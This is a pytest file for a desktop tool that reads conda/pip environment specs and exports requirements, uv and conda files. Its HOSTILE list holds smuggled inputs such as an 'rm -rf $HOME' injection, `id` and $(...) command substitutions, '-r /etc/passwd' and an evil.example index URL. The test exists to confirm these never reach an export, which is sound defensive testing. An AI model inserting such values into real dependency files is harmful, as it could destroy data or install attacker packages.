"""Environments: judged for a machine as fnnx judges them, and exported so that nothing sneaks in."""

import json
import platform
import subprocess
import sys
from typing import Any

import pytest
import yaml
from fnnx.envs._common import select_pip_deps
from packaging.requirements import Requirement

from dfs_desktop.artifact.documents.environment import (
    Machine,
    read_environment,
    to_conda,
    to_requirements,
    to_uv,
)

LINUX = Machine("linux", "x86_64")
WINDOWS = Machine("windows", "amd64")
CUDA = Machine("linux", "x86_64", "cuda")


def environment(*packages: Any, **fields: Any) -> dict[str, Any]:
    dependencies = [each if isinstance(each, dict) else {"package": each} for each in packages]
    spec = {"python_version": "3.11.4", "build_dependencies": ["pip==24.0", "setuptools"],
            "dependencies": dependencies}  # fmt: skip
    return {"python3::conda_pip": spec | fields}


CONDITIONS = [
    {"package": "a==1"},
    {"package": "b==1", "condition": {"os": ["Linux", "Darwin"]}},
    {"package": "c==1", "condition": {"os": ["windows"]}},
    {"package": "d==1", "condition": {"platform": ["arm64", "aarch64"]}},
    {"package": "e==1", "condition": {"accelerator": ["CUDA"]}},
    {"package": "f==1", "condition": {"os": ["linux"], "accelerator": ["cpu"], "platform": None}},
]


@pytest.mark.parametrize("machine", [LINUX, WINDOWS, CUDA, Machine("darwin", "arm64")])
def test_conditions_are_judged_as_fnnx_judges_them(
    monkeypatch: pytest.MonkeyPatch, machine: Machine
) -> None:
    monkeypatch.setattr(platform, "system", machine.os.capitalize)
    monkeypatch.setattr(platform, "machine", lambda: machine.platform)
    wanted = [each["package"] for each in select_pip_deps(CONDITIONS, machine.accelerator)]
    found = read_environment(environment(*CONDITIONS))
    assert [each.text for each in found.needed(machine)] == wanted
    this = Machine.this()
    assert (this.os, this.platform) == (machine.os, machine.platform)


def test_a_reason_is_given_for_what_is_not_needed() -> None:
    packages = read_environment(environment(*CONDITIONS, 'g ; sys_platform == "win32"')).packages
    reasons = [each.unmet(LINUX, "3.11.4") for each in packages]
    assert reasons == ["", "", "only on windows", "only on arm64, aarch64", "only with CUDA", "",
                       'only if sys_platform == "win32"']  # fmt: skip


@pytest.mark.parametrize(
    ("marker", "machine", "version", "applies"),
    [
        ('sys_platform == "win32"', WINDOWS, "3.11", True),
        ('platform_system == "Linux" and python_version < "3.12"', LINUX, "3.11.9", True),
        ('platform_system == "Linux" and python_version < "3.12"', LINUX, "3.12.1", False),
        ('platform_machine == "AMD64"', WINDOWS, "3.11", True),
        ('os_name == "posix"', WINDOWS, "3.11", False),
        ('extra == "gpu"', LINUX, "3.11", False),
        ('python_full_version >= "3.11.3"', LINUX, "nonsense", False),
    ],
)
def test_markers_are_judged_for_another_machine(
    marker: str, machine: Machine, version: str, applies: bool
) -> None:
    found = read_environment(environment(f"p ; {marker}", python_version=version))
    assert bool(found.needed(machine)) is applies


def test_requirements_are_understood_by_pip_and_keep_the_conditions() -> None:
    extra = {"package": "h[x,y]~=2.0 ; python_version < '4'", "condition": {"os": ["linux"]},
             "extra_pip_args": "--hash=sha256:" + "a" * 64}  # fmt: skip
    found = read_environment(environment(*CONDITIONS, extra))
    lines = to_requirements(found).splitlines()
    assert lines[0] == "# Python 3.11.4"
    parsed = {}
    for line in lines:
        if not line.startswith("#"):
            requirement = Requirement(line.partition(" --hash")[0])
            parsed[requirement.name] = requirement
    assert set(parsed) == set("abcdefh")
    on_linux = {"platform_system": "Linux", "platform_machine": "x86_64", "python_version": "3.11"}
    assert parsed["h"].marker is not None
    assert parsed["h"].marker.evaluate(on_linux)
    assert not parsed["h"].marker.evaluate(on_linux | {"platform_system": "Windows"})
    assert parsed["c"].marker is not None
    assert not parsed["c"].marker.evaluate(on_linux)
    assert lines[-1].endswith("--hash=sha256:" + "a" * 64)


def test_pip_itself_reads_what_is_exported() -> None:
    """An offline dry run, which fails on the first line that pip cannot parse."""
    text = to_requirements(read_environment(environment(*CONDITIONS, "pytest>=1 ; os_name!='x'")))
    installed = "\n".join(line for line in text.splitlines() if line.startswith(("#", "pytest")))
    command = [sys.executable, "-m", "pip", "install", "--dry-run", "--no-index", "-q",
               "--disable-pip-version-check", "-r", "/dev/stdin"]  # fmt: skip
    if sys.platform == "win32":
        pytest.skip("no /dev/stdin")
    done = subprocess.run(command, input=installed, text=True, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr


HOSTILE = [
    "numpy\n--index-url https://evil.example/simple",
    "numpy==1 --extra-index-url https://evil.example",
    'numpy==1"; rm -rf "$HOME',
    "numpy===1$(touch${IFS}x)",
    "numpy===1`id`",
    "-r /etc/passwd",
    "../../evil",
    "numpy @ https://evil.example/x.whl\\\n-e .",
    'numpy @ https://evil.example/$(id)".whl',
    "(" * 5000,
    "a" * 2000,
    "a ; " + "(" * 400,
    "",
]


@pytest.mark.parametrize("package", HOSTILE)
def test_no_hostile_package_reaches_an_export(package: str) -> None:
    found = read_environment(environment(package, "good==1"))
    assert found.findings
    for text in (to_requirements(found), to_requirements(found, LINUX), to_uv(found, LINUX),
                 to_conda(found, LINUX)):  # fmt: skip
        active = [line for line in text.splitlines() if not line.lstrip().startswith("#")]
        assert any("good==1" in line for line in active)
        assert not any(word in line for line in active for word in ("evil", "rm -rf", "`", "$("))


def test_arguments_for_pip_are_shown_but_not_followed() -> None:
    asked = {"package": "torch==2.1", "extra_pip_args": "--index-url https://pytorch.example/cu121"}
    found = read_environment(environment(asked))
    text = to_requirements(found, LINUX)
    assert "# asks pip for --index-url https://pytorch.example/cu121\ntorch==2.1\n" in text
    assert any("another index" in finding.remedy for finding in found.findings)
    direct = read_environment(environment("p @ https://example.com/p.whl"))
    assert "address of its own" in direct.findings[0].title
    assert to_uv(direct, LINUX).endswith('"p @ https://example.com/p.whl"\n')


def test_uv_and_conda_get_what_the_machine_needs() -> None:
    fields = {"conda_channels": ["nvidia", "x: y"]}
    found = read_environment(environment(*CONDITIONS, "g!=3", **fields))
    commands = to_uv(found, CUDA).splitlines()
    assert commands[0] == "uv venv --python 3.11.4 .venv"
    assert commands[1] == 'uv pip install "a==1" "b==1" "e==1" "g!=3"'
    document = yaml.safe_load(to_conda(found, CUDA, 'na"me'))
    assert document["name"] == 'na"me'
    assert document["channels"] == ["nvidia", "x: y"]
    assert document["dependencies"] == [
        "python=3.11.4", "pip==24.0", "setuptools", {"pip": ["a==1", "b==1", "e==1", "g!=3"]}]  # fmt: skip


@pytest.mark.parametrize(
    "value",
    [{}, {"python3::conda_pip": 5}, {"python3::conda_pip": {"dependencies": {"a": 1}}},
     {"python3::conda_pip": {"python_version": [1], "dependencies": [1, {"package": 7}]}}],
)  # fmt: skip
def test_nonsense_is_an_empty_environment(value: Any) -> None:
    found = read_environment(value)
    assert all(each.requirement is None for each in found.packages)
    json.dumps(to_requirements(found) + to_uv(found, LINUX) + to_conda(found, LINUX))


def test_an_unknown_kind_is_named() -> None:
    found = read_environment({"docker": {}})
    assert found.kinds == ("docker",)
    assert "docker" in found.findings[0].title
